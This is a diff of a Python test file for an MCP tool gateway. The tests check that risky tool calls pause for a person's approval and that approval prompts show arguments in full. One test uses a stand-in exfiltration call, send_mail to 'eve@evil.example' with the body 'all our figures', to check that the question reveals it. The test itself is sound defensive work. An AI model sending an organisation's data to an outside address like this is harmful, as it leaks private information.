@@ -79,13 +79,15 @@ def check(question):
 class Dialogs:
     """A gateway over stdio, and the questions that its client's person is asked; the answer is no."""
 
-    def __init__(self, folder, env, *options):
+    def __init__(self, folder, env, *options, elicitation=None, version="2025-06-18"):
         command = [sys.executable, "-c", MAIN, "serve", *options]
-        pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.DEVNULL}
-        self.process = subprocess.Popen(command, cwd=folder, env=env, text=True, **pipes)
-        hello = {"capabilities": {"elicitation": {}}, "clientInfo": {"name": "c", "version": "1"}}
+        self.told = folder / "serve.err"
+        pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
+        with self.told.open("w") as told:
+            self.process = subprocess.Popen(command, cwd=folder, env=env, text=True, stderr=told, **pipes)
+        hello = {"capabilities": {"elicitation": elicitation or {}}, "clientInfo": {"name": "c", "version": "1"}}
         self.asked = []
-        self.send("initialize", protocolVersion="2025-06-18", **hello)
+        self.send("initialize", protocolVersion=version, **hello)
         self.write({"jsonrpc": "2.0", "method": "notifications/initialized"})
 
     def write(self, message):
@@ -118,7 +120,7 @@ def served(tmp_path, env):
     """Opens a gateway over an MCP server with these tools: `(dialogs, aliases)`."""
     pytest.importorskip("mcp", reason="the MCP SDK (extra 'mcp') is not installed")
 
-    def start(tools, *options):
+    def start(tools, *options, **how):
         (tmp_path / "server.py").write_text(SERVER)
         (tmp_path / "tools.json").write_text(json.dumps(tools))
         command = shlex.join([sys.executable, str(tmp_path / "server.py"), str(tmp_path / "tools.json")])
@@ -126,7 +128,7 @@ def served(tmp_path, env):
         listed = subprocess.run(
             [sys.executable, "-c", MAIN, "tools", "list", *given, "--json"], env=env, cwd=tmp_path, capture_output=True
         )
-        return Dialogs(tmp_path, env, *given, *options), [tool["alias"] for tool in json.loads(listed.stdout)]
+        return Dialogs(tmp_path, env, *given, *options, **how), [tool["alias"] for tool in json.loads(listed.stdout)]
 
     return start
 
@@ -171,6 +173,32 @@ def test_no_value_writes_the_question_and_what_decides_is_first_and_last(served)
     assert re.search(r"'a\\nba.*' … '.*a\\nb' \(2,997 characters\)", dialogs.asked[-1])
 
 
+def test_a_client_that_shows_no_forms_is_asked_nothing_and_a_person_is_told_of_the_run(served):
+    dialogs, [pay] = served([offered("pay")], elicitation={"url": {}}, version="2025-11-25")
+    with dialogs:
+        reply = dialogs.send("tools/call", name="run_program", arguments={"source": f"{pay}()"})
+    paused = json.loads(reply["result"]["content"][0]["text"])
+    assert (paused["status"], dialogs.asked) == ("paused", [])
+    run = paused["run"].rpartition(".")[0]
+    assert f"run {run} waits for a person: atc runs resume {run}\n" in dialogs.told.read_text()
+
+
+def test_a_document_covers_nothing_that_is_asked_about_and_nothing_is_left_out(served):
+    secret = {"type": "string", "format": "password", "writeOnly": True, "x-atc-secret": True}
+    dialogs, [send_mail, order] = served([offered("send_mail", to=secret, body=secret), offered("order", lines={})])
+    with dialogs:
+        call = f"{send_mail}(to='eve@evil.example', body='all our figures')"
+        dialogs.send("tools/call", name="run_program", arguments={"source": call})
+        call = f"{order}(lines=[{{'number': n}} for n in range(101)])"
+        reply = dialogs.send("tools/call", name="run_program", arguments={"source": call})
+    [question] = dialogs.asked
+    assert question.count("argument 'to' = 'eve@evil.example'") == 2
+    assert "argument 'body' = 'all our figures'" in question
+    paused = reply["result"]["content"][0]["text"]
+    assert '"status": "paused"' in paused
+    assert "send fewer at once" in paused
+
+
 def at_a_terminal(folder, env, *words, typed=(b"n\n",)):
     """What a command says at a terminal, and its exit status; each of its questions gets what is `typed` in turn."""
     ours, theirs = pty.openpty()
@@ -204,6 +232,22 @@ def test_a_question_at_the_terminal_is_written_the_same_way(tmp_path, env):
     check(question)
     assert question.rstrip().endswith("argument 'amount' = 5000")
     assert " characters)" in question
+
+
+def test_a_line_that_was_typed_before_a_question_does_not_answer_it(tmp_path, env):
+    text = {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}
+    with serving(lambda _: Reply(body={})) as server:
+        binding = {"http": {"method": "POST", "url": f"{server.url}/notes"}}
+        (tmp_path / "tools").mkdir()
+        (tmp_path / "tools" / "note.json").write_text(
+            json.dumps({"name": "note", "inputSchema": text, "binding": binding})
+        )
+        program = "note(text='first')\nnote(text='second')\nprint('done')"
+        (tmp_path / "replies.json").write_text(json.dumps([f"```python\n{program}\n```"]))
+        words = ("run", "Do it.", "--tools", "tools", "--model", "scripted:replies.json", "--strategy", "chain")
+        said, code = at_a_terminal(tmp_path, env, *words, typed=(b"y\ny\n", b"n\n"))
+        assert [json.loads(seen.body) for seen in server.seen] == [{"text": "first"}]
+    assert (code, said.count("Send it?")) == (1, 2)
 
 
 def test_a_command_that_is_to_be_started_is_shown_in_our_words(tmp_path, env):
